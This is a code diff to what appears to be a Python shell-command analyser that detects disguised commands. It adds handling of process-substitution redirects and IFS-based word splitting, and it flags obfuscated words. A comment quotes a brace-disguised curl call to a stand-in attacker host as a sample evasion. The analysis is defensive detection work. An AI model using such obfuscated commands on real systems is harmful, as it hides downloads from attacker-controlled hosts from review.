@@ -260,7 +260,8 @@ class _Walk:
             elif not child.is_named:
                 sign += kind
             else:
-                target = self._words.value(child)
+                source = text_of(child)
+                target = Value(source) if source.startswith(">(") else self._words.value(child)
                 break
         self._redirect_to(redirects, descriptor, sign, target)
 
@@ -298,6 +299,9 @@ class _Walk:
         kept = not redirects.sockets
         for target, appended, is_output in redirects.out:
             content = result if is_output else Value("", False)
+            if target.text.startswith(">("):
+                shell.script(target.text[2:-1], content)
+                continue
             shell.write(target.text, content, "", *(("append",) if appended else ()))
             kept = kept and not is_output
         return result if kept else EMPTY
@@ -336,6 +340,12 @@ class _Walk:
             # A word made of nothing but braces is a command line in disguise: `{curl,-s,evil.example}`.
             disguised = text.startswith("{") and not words
             words += [value.with_text(word, value.known, *(("obfuscated",) if disguised else ())) for word in found]
+        elif kind == "string" and value.known and "[@]" in text_of(inner):
+            words += [value.with_text(word) for word in text.split()]
+        elif kind in _SPLIT and value.known and (separators := self._shell.variables.get("IFS")) and separators.text:
+            for separator in separators.text:
+                text = text.replace(separator, " ")
+            words += [value.with_text(word, True, "obfuscated") for word in text.split()]
         elif kind in _SPLIT and value.known and any(sign in text for sign in " \t\n"):
             source = inner.text or b""
             if kind != "concatenation" or not (b'"' in source or b"'" in source):
